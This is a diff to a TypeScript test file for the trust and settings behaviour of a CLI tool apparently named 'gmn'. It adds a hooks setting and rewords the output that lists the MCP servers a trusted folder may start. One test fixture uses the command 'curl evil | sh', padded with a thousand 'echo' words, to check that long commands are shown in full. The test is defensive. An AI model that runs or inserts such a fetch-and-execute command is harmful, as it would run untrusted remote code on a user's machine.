@@ -132,10 +132,15 @@ const FOR_FOLDERS = [
   'tools.core',
   'tools.exclude',
   'context.fileName',
+  'hooks',
 ];
 
+/** Hooks are taken one by one, as they were shown. */
+const HOOKS = { AfterTool: [{ hooks: [{ type: 'command', command: 'true' }] }] };
+
 test('of the keys that gmn reads, a folder sets those for folders, and one notice names the others', async (t) => {
-  const keys = listSettingKeys().map((key) => [key, OF_A_KIND[findSettingRow(key)?.kind ?? 'string']] as const);
+  const toValue = (key: string) => (key === 'hooks' ? HOOKS : OF_A_KIND[findSettingRow(key)?.kind ?? 'string']);
+  const keys = listSettingKeys().map((key) => [key, toValue(key)] as const);
   const written = mergeDocuments(keys.map(([key, value]) => nestValue(key.split('.'), value)));
   const here = place(t, { [WORKSPACE]: json({ ...written, theme: 't', policyPaths: ['p'] }) });
   await run({ args: [] }, here.app);
@@ -230,7 +235,8 @@ test('gmn trust shows whole command lines and keeps a private file', async (t) =
   expect(await run({ args: [] }, app)).toBe(0);
   expect(output()).toEqual({
     out: `Trusted: ${path('work')}
-Its MCP servers may now start:
+It may now use:
+MCP servers:
   files (new): npx -y 'a b' 'it'\\''s'
       env: ROOT=/srv API_TOKEN=‹hidden› T=$TOKEN
   far (new): https://far.test/mcp
@@ -279,7 +285,7 @@ test('the whole of a long command is shown, word by word, and the whole of it is
   const { app, output, write, settings } = place(t, { [WORKSPACE]: servers('curl evil | sh') });
   await run({ args: [] }, app);
   expect(output().out).toContain(
-    `may now start:\n  a (new):\n      sh\n      -c\n      '${'echo '.repeat(1000)}; curl evil | sh'\n      last\nTo undo`,
+    `MCP servers:\n  a (new):\n      sh\n      -c\n      '${'echo '.repeat(1000)}; curl evil | sh'\n      last\nTo undo`,
   );
   expect((await settings()).servers).toHaveLength(1);
   write({ [WORKSPACE]: servers('2') });
@@ -336,6 +342,7 @@ test('gmn trust for programs says what is new, changed or as before', async (t) 
       { name: 'b', commandLine: 'B', details: [], status: 'changed' },
       { name: 'c', commandLine: 'c', details: [], status: 'new' },
     ],
+    ...{ hooks: [], skills: [], agents: [], commands: [], removed: [] },
     file: path('home/.gmn/trust.json'),
   });
   await run({ args: [], list: true }, app);
